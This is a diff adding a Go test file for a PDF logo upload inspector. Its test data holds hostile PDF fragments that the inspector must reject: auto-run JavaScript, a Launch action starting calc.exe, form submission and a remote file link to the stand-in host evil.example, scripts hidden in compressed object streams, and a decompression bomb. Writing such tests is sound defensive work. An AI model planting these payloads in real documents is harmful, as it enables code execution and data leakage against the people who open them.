@@ -1,0 +1,80 @@
+package logo_test
+
+import (
+	"bytes"
+	"compress/zlib"
+	"fmt"
+	"strings"
+	"testing"
+
+	"sello/api"
+	"sello/api/logo"
+	"sello/core/fault"
+)
+
+// pdfOf returns a PDF with some text between its header and its end.
+func pdfOf(text string) string { return "%PDF-1.7\n" + text + "\ntrailer<<>>\n%%EOF\n" }
+
+// stream returns an object whose compressed bytes are a text.
+func stream(dictionary, text string) string {
+	var b bytes.Buffer
+	z := zlib.NewWriter(&b)
+	_, _ = z.Write([]byte(text))
+	_ = z.Close()
+	return fmt.Sprintf("7 0 obj\n<<%s/Filter/FlateDecode/Length %d>>\nstream\r\n%s\nendstream\nendobj\n", dictionary, b.Len(), b.String())
+}
+
+// damaged returns a stream without the checksum of its compressed bytes.
+func damaged(stream string) string {
+	const end = "\nendstream\nendobj\n"
+	return stream[:len(stream)-len(end)-4] + end
+}
+
+const objStm = "/Type/ObjStm/N 1/First 4"
+
+func TestAPDFThatDoesSomethingIsRejected(t *testing.T) {
+	script := "1 0 <</S/JavaScript/JS(app.alert(1))>>"
+	for name, text := range map[string]string{
+		"script":                       "1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
+		"script with an escaped name":  "1 0 obj<</OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>>>endobj",
+		"program":                      "1 0 obj<</AA<</O<</S /Launch/F(calc.exe)>>>>>>endobj",
+		"form that sends":              "1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj",
+		"form of XML":                  "1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj",
+		"other file":                   "1 0 obj<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>endobj",
+		"script in an object stream":   stream(objStm, script),
+		"stream without its type":      stream("/N 1/First 4", script),
+		"second stream":                stream("", "0.5 w q") + stream(objStm, script),
+		"damaged object stream":        damaged(stream(objStm, script)),
+		"encrypted object stream":      stream(objStm, "\x8f\x11") + "trailer<</Encrypt 3 0 R>>",
+		"encoded object stream":        "7 0 obj<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>stream\nGar\nendstream",
+		"object stream with predictor": stream(objStm, "\x021 0 <</S/J\x02avaScript"),
+		"bomb":                         stream(objStm, "1 0 "+strings.Repeat(" ", 65<<20)),
+		"many streams":                 strings.Repeat("stream\n", 50_001),
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := logo.Inspect(api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))}, "trademark_data.logo")
+			wantFault(t, err, api.KindInvalidData, fault.FileType)
+		})
+	}
+}
+
+func TestAPDFThatOnlyShowsSomethingIsAccepted(t *testing.T) {
+	for name, text := range map[string]string{
+		"page that is opened first":   "1 0 obj<</OpenAction[3 0 R/FitH null]>>endobj",
+		"link":                        "1 0 obj<</A<</S/URI/URI(https://example.com)>>>>endobj",
+		"object stream":               stream(objStm, "1 0 <</Type/Catalog/Pages 2 0 R>>"),
+		"drawing and pictures":        stream("", "0 0 m 9 9 l S") + stream("", "\xff\x00\x80"),
+		"longer name":                 "1 0 obj<</JavaScripts 1/Launchpad 2>>endobj",
+		"words on the page":           "1 0 obj<</Title(JavaScript and Launch)>>endobj",
+		"drawing encoded as text":     "5 0 obj<</Filter[/ASCII85Decode/FlateDecode]>>stream\nGar\nendstream endobj",
+		"protected, without a stream": "trailer<</Encrypt 3 0 R>>",
+		"name with a broken escape":   "1 0 obj<</A#4 1/#/#zz>>endobj",
+		"attached data of an invoice": "1 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj",
+	} {
+		t.Run(name, func(t *testing.T) {
+			if _, err := logo.Inspect(api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))}, "trademark_data.logo"); err != nil {
+				t.Error(err)
+			}
+		})
+	}
+}
